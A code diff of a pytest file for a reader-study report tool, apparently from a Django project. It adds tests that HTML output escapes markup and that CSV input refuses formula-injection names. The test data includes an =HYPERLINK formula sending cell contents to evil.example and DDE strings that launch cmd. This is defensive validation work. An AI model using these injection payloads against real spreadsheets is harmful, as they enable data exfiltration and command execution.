@@ -3,13 +3,15 @@ a self-contained escaped HTML page, the PDF's pages, bad input writing nothing, 
 reproducibility by seed; the binary ROC-band rule agreeing across the CSV, report.json, the tables
 and the forest plot; borderline verdicts, the named point estimate and the deviations listed.
 
-The study is :func:`ml.core.readers.synthetic_study` (paper-sized: 100 cases, 10 readers) with one
-reader renamed ``<b>r&1</b>`` so the HTML escaping is exercised by a hostile id from the input file.
+The study is :func:`ml.core.readers.synthetic_study` (paper-sized: 100 cases, 10 readers). A reader or
+training name that the site would refuse (``<b>r&1</b>``, ``=HYPERLINK(...)``) is refused with its file,
+row and column; the HTML escaping is exercised by such a name put into already-validated responses.
 """
 
 from __future__ import annotations
 
 import csv
+import dataclasses
 import hashlib
 import json
 import re
@@ -20,11 +22,13 @@ from io import StringIO
 from pathlib import Path
 from typing import Any
 
+import numpy as np
 import pytest
 from django.core.management import CommandError, call_command
 
 from ml.core import readers
 from ml.core.reader_report import FIGURES, REPORT_FILES, build_report, forest_rows, pdf_sections
+from ml.core.reader_tables import html_page
 from tests.ml_core.test_readers import band_study
 
 HOSTILE = "<b>r&1</b>"
@@ -42,9 +46,6 @@ def _write_csv(path: Path, rows: Sequence[dict[str, Any]], columns: Sequence[str
 
 def _study(tmp_path: Path) -> tuple[Path, Path]:
     responses, predictions = readers.synthetic_study(seed=3)
-    for row in responses:
-        if row["reader"] == "r1":
-            row["reader"] = HOSTILE
     return (
         _write_csv(tmp_path / "responses.csv", responses, readers.RESPONSE_COLUMNS),
         _write_csv(tmp_path / "predictions.csv", predictions, readers.PREDICTION_COLUMNS),
@@ -127,14 +128,63 @@ def test_html_is_self_contained_and_escaped(made: tuple[Path, Path, Path, str]) 
     page = (out / "report.html").read_text(encoding="utf-8")
     assert "http://" not in page and "https://" not in page
     assert 'src="http' not in page and "<link" not in page.lower() and "<script" not in page.lower()
-    assert HOSTILE not in page
-    assert "&lt;b&gt;r&amp;1&lt;/b&gt;" in page
-    for reader in ["e0", "e1", "e2", "e3", "e4", "r0", "r2", "r3", "r4"]:
+    for reader in ["e0", "e1", "e2", "e3", "e4", "r0", "r1", "r2", "r3", "r4"]:
         assert f"<td>{reader}</td>" in page
     for heading in ("Table 3", "Table 4", "Table 5", "Noninferiority margin", "Obuchowski–Rockette"):
         assert heading in page
     images = page.count("data:image/png;base64,") + page.count("<svg")
     assert images == len(FIGURES)
+
+
+def test_markup_in_a_name_is_escaped_in_the_html(tmp_path: Path) -> None:
+    # read_responses refuses such a name (below); the page escapes every text all the same.
+    responses, predictions = _study(tmp_path)
+    valid = readers.read_responses(responses)
+    hostile = dataclasses.replace(
+        valid, reader=np.array([HOSTILE if r == "r1" else r for r in valid.reader], dtype=object)
+    )
+    page = html_page(build_report(hostile, predictions, iterations=20), [])
+    assert HOSTILE not in page
+    assert "&lt;b&gt;r&amp;1&lt;/b&gt;" in page
+
+
+@pytest.mark.parametrize(
+    ("column", "value"),
+    [
+        ("reader", HOSTILE),
+        ("reader", '=HYPERLINK("http://evil.example/?leak="&A1,"r1")'),
+        ("reader", "@SUM(1+1)*cmd|' /C calc'!A0"),
+        ("reader", "model"),  # the model's own row in observers.csv
+        ("training", "=cmd|' /C calc'!A0"),
+        ("training", "-2+3"),
+        ("training", "Orthopedics Attending"),
+    ],
+)
+def test_a_name_the_site_refuses_is_refused_with_file_row_column(tmp_path: Path, column: str, value: str) -> None:
+    responses, predictions = _study(tmp_path)
+    rows = list(csv.DictReader(responses.read_text(encoding="utf-8").splitlines()))
+    first = rows[0]["reader"]
+    for row in rows:  # every row of one reader, so no other check (one training per reader) fires first
+        if row["reader"] == first:
+            row[column] = value
+    _write_csv(responses, rows, readers.RESPONSE_COLUMNS)
+    out = tmp_path / "out"
+    with pytest.raises(CommandError) as error:
+        _run(responses, predictions, out)
+    message = str(error.value)
+    assert str(responses) in message and "row 2" in message and repr(column) in message, message
+    assert repr(value) in message
+    _assert_nothing_written(out)
+
+
+def test_site_trainings_and_reader_codes_are_accepted() -> None:
+    from readerstudy.models import TRAININGS, training_validator
+
+    for training in TRAININGS:
+        training_validator(training)  # the site's rule and reader_report's are one
+        assert re.fullmatch(readers.TRAINING_PATTERN, training)
+    for code in ("R01", "R99", "R100", "e0", "a.b-c_1"):
+        assert re.fullmatch(readers.READER_PATTERN, code)
 
 
 def test_pdf_has_the_planned_pages(made: tuple[Path, Path, Path, str]) -> None:
